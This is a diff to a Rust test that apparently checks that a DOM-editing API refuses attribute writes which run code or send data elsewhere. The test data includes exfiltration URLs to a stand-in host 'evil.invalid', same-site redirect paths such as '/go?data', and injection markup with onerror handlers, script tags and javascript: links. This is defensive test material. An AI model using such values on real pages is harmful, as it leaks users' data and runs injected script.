@@ -118,6 +118,11 @@ async fn nothing_that_runs_code_or_sends_elsewhere_can_be_written() {
         ("dom.setAttribute", json!(["#picture", "src", "http://evil.invalid/?data"])),
         ("dom.setAttribute", json!(["#picture", "srcset", "http://evil.invalid/?data"])),
         ("dom.setAttribute", json!(["#form", "action", "http://evil.invalid/"])),
+        // A redirect of the own site leads anywhere, and nobody has to click.
+        ("dom.setAttribute", json!(["#picture", "src", "/go?data"])),
+        ("dom.setAttribute", json!(["#form", "action", "/go?data"])),
+        ("dom.setAttribute", json!(["#button", "formaction", "/go?data"])),
+        ("dom.create", json!(["form"])),
         ("dom.setAttribute", json!(["#button", "formaction", "http://evil.invalid/"])),
         ("dom.setAttribute", json!(["#code", "src", "/x.js"])),
         ("dom.setAttribute", json!(["#box", "href", "/x"])),
@@ -136,7 +141,6 @@ async fn nothing_that_runs_code_or_sends_elsewhere_can_be_written() {
         );
     }
     page.get("dom.setAttribute", json!(["#link", "href", "/here?x"])).await;
-    page.get("dom.setAttribute", json!(["#form", "action", server.url("/order")])).await;
     let markup = r#"<p onclick="ran()">kept <b>bold</b></p><script>ran()</script>
         <img src=http://evil.invalid onerror="ran()"><a href="http://evil.invalid/?x">out</a>
         <a href="/in">in</a><a href="javascript:ran()">run</a><iframe src="/x"></iframe>
